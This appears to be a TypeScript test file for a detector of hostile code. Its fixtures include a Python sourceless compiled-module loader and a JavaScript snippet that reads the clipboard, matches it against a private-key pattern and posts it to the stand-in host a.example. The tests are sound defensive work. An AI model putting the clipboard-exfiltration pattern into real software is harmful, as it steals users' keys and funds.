import { lookAtText } from './look-at-text.ts';

const kinds = (text: string): readonly string[] =>
  lookAtText(text, 'python').drafts.map(({ kind, subject }) => `${kind} ${subject ?? ''}`);

describe('Python that loads what has no source', () => {
  it('is found where a loader for compiled modules is made', () => {
    const text = 'loader = SourcelessFileLoader("full", where)\nloader.exec_module(module_from_spec(spec))\n';
    expect(kinds(text)).toContain('encoded-payload a compiled module');
  });

  it('is ordinary where sources are loaded, or the loader is only named', () => {
    const text = 'from importlib.machinery import SourcelessFileLoader\nloader = SourceFileLoader("full", where)\n';
    expect(kinds(text)).not.toContain('encoded-payload a compiled module');
  });
});

describe('a clipboard that is read', () => {
  const watch = (act: string): string =>
    `import clipboardy from 'clipboardy';\nconst shape = /^(0x)?[0-9a-f]{64}$/i;\nconst text = await clipboardy.read();\nif (shape.test(text)) ${act};\n`;

  it('is loot where it is held against the pattern of a key and sent', () => {
    const found = lookAtText(watch("fetch('https://a.example', { body: text })"), 'javascript').drafts;
    expect(found.map(({ kind }) => kind)).toContain('secrets-sent');
  });

  it('is none where it is only shown', () => {
    const found = lookAtText(watch('console.log(text)'), 'javascript').drafts;
    expect(found.map(({ kind }) => kind)).not.toContain('secrets-sent');
  });
});
